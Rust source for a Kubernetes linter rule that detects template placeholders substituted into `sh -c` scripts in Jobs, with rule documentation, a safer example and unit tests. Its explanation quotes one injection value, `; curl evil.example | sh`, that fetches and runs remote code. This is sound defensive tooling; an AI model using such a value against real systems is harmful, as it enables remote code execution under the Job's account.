//! Values that a program writes into the script of a shell.

use std::collections::BTreeSet;
use std::ops::Range;

use super::super::example::{account, job};
use crate::finding::{Page, Persona, Rule, Section, Severity};
use crate::lint::check::Check;
use crate::lint::report::Reporter;
use crate::lint::view::{WorkloadView, items};
use crate::source::Node;
use crate::spec::{PlaceholderKind, placeholders, shell_script};

pub(in crate::lint) struct Lint;

static RULE: Rule = Rule {
    id: "placeholder-in-shell",
    section: Section::Workloads,
    severity: Severity::High,
    persona: Persona::Default,
    summary: "a value that is filled into a Job's template becomes part of a shell's script",
    page: Page {
        what: "Fires on the script of a shell, as behind `sh -c`, in a Job or CronJob or a template \
               of one, that holds `@NAME@`, or a `${NAME}` that a spec among the inputs declares as \
               a parameter of the template, or that also stands where no shell reads it, as in the \
               Job's name: then whoever fills in the one fills in the other. Any other `${NAME}` \
               that stands in scripts alone is the shell's own variable. In a ConfigMap that nobody \
               renders before it is applied, and in one that Helm has rendered, it is a `{{ value }}` \
               too, unless a tool takes it, as behind `--format`.",
        why: "The shell runs what is filled in. A value such as `; curl evil.example | sh` is a \
              command like any other, with the Job's account and volumes.",
        example: concat!(
            account!("automountServiceAccountToken: false"),
            "---\n",
            job!(
                "backoffLimit: 2"
                "activeDeadlineSeconds: 600"
                "ttlSecondsAfterFinished: 3600";
                "serviceAccountName: app"
                "restartPolicy: Never"
            ),
            "          command: [sh, -c, \"convert @FILE@\"]\n",
        ),
        better: concat!(
            account!("automountServiceAccountToken: false"),
            "---\n",
            job!(
                "backoffLimit: 2"
                "activeDeadlineSeconds: 600"
                "ttlSecondsAfterFinished: 3600";
                "serviceAccountName: app"
                "restartPolicy: Never"
            ),
            "          command: [sh, -c, 'convert \"$1\"', sh, \"@FILE@\"]\n",
        ),
        sources: &[
            "https://owasp.org/www-community/attacks/Command_Injection",
            "https://kubernetes.io/docs/tasks/inject-data-application/define-command-argument-container/",
        ],
        elsewhere: &[],
    },
};

impl Check for Lint {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn check_workload(&self, workload: &WorkloadView<'_>, out: &mut Reporter<'_>) {
        if workload.job().is_none() {
            return;
        }
        let scripts: Vec<Node<'_>> = workload.containers().filter_map(script).collect();
        let known = &workload.set.filled_in;
        let is_suspect = |script: &Node<'_>| {
            let text = script.text().unwrap_or_default();
            !placeholders(text).is_empty() || known.has_actions && text.contains(BEGIN)
        };
        if !scripts.iter().any(is_suspect) {
            return;
        }
        let filled_in = filled_in(workload.written.root(), &scripts);
        for script in scripts {
            let text = script.text().unwrap_or_default();
            let found = placeholders(text);
            let mut found = found.iter().filter(|found| match found.kind {
                PlaceholderKind::Value => true,
                PlaceholderKind::Parameter => {
                    filled_in.contains(found.name) || known.parameters.contains(found.name)
                }
                PlaceholderKind::Shell => false,
            });
            let first = found.next().map(|first| first.range.clone());
            let action = || known.has_actions.then(|| action(text)).flatten();
            let Some(range) = first.or_else(action) else {
                continue;
            };
            let written = text.get(range).unwrap_or_default();
            let message = format!(
                "the shell runs whatever is filled in for `{written}` as part of its script"
            );
            out.at(workload.written, &script.place(), message)
                .label("a shell reads this")
                .help(format!(
                    "pass it as an argument behind the script, `[sh, -c, 'tool \"$1\"', sh, \
                     \"{written}\"]`, or as a variable of `env`, and write `\"$NAME\"` in the script"
                ))
                .report();
        }
    }
}

/// The word of a container's command line that a shell reads as its script.
fn script(container: Node<'_>) -> Option<Node<'_>> {
    let words: Vec<Node<'_>> = items(container, "command")
        .chain(items(container, "args"))
        .collect();
    let texts: Vec<&str> = words
        .iter()
        .map(|word| word.text().unwrap_or_default())
        .collect();
    words.get(shell_script(&texts)?).copied()
}

/// The names of the `${NAME}` that stand where no shell reads them, in a word by themselves.
fn filled_in<'a>(object: Node<'a>, scripts: &[Node<'a>]) -> BTreeSet<&'a str> {
    let mut names = BTreeSet::new();
    let mut pending = vec![object];
    while let Some(node) = pending.pop() {
        pending.extend(node.items());
        pending.extend(node.pairs().map(|(_, value)| value));
        let is_script = || scripts.iter().any(|script| script.span() == node.span());
        let text = node
            .text()
            .filter(|text| !text.contains(char::is_whitespace));
        if let Some(text) = text.filter(|_| !is_script()) {
            let found = placeholders(text).into_iter();
            let found = found.filter(|found| found.kind == PlaceholderKind::Parameter);
            names.extend(found.map(|found| found.name));
        }
    }
    names
}

/// The marks of an action.
const BEGIN: &str = "{{";
const END: &str = "}}";

/// What a tool is told before a template of its own, which it fills in itself.
const OF_TOOLS: [&str; 4] = ["template", "--format", " -f '", " -f \""];

/// The first `{{ value }}` in a script that no tool of the script takes.
fn action(script: &str) -> Option<Range<usize>> {
    let mut found = script.match_indices(BEGIN).filter_map(|(at, _)| {
        let rest = script.get(at + BEGIN.len()..)?;
        let (inside, _) = rest.split_once(END)?;
        let value = inside.trim_start_matches(['-', ' ']);
        let is_value = value.starts_with(|c: char| c.is_ascii_alphabetic() || "._$".contains(c));
        let line = script.get(..at)?.rsplit('\n').next().unwrap_or_default();
        let is_of_tool = OF_TOOLS.iter().any(|word| line.contains(word));
        let end = at + BEGIN.len() + inside.len() + END.len();
        let is_one = is_value && !inside.contains(['{', '\n']);
        (is_one && !is_of_tool).then_some(at..end)
    });
    found.next()
}

#[cfg(test)]
mod tests {
    use super::action;

    #[test]
    fn actions_are_told_from_templates_of_tools() {
        let rows = [
            ("echo {{ .ID }} {{id}}", Some("{{ .ID }}")),
            ("run '{{id}}'", Some("{{id}}")),
            ("run {{- $x -}}", Some("{{- $x -}}")),
            ("kubectl get pods -o go-template='{{.items}}'", None),
            ("docker ps --format '{{.ID}} {{.Names}}'", None),
            ("docker inspect -f \"{{.State}}\" x", None),
            (
                "docker ps --format '{{.ID}}'\nrun {{ id }}",
                Some("{{ id }}"),
            ),
            ("awk '{{ {print $1} }}'", None),
            ("echo {{", None),
            ("echo {{}}", None),
        ];
        for (script, expected) in rows {
            let found = action(script).map(|range| &script[range]);
            assert_eq!(found, expected, "{script}");
        }
    }
}
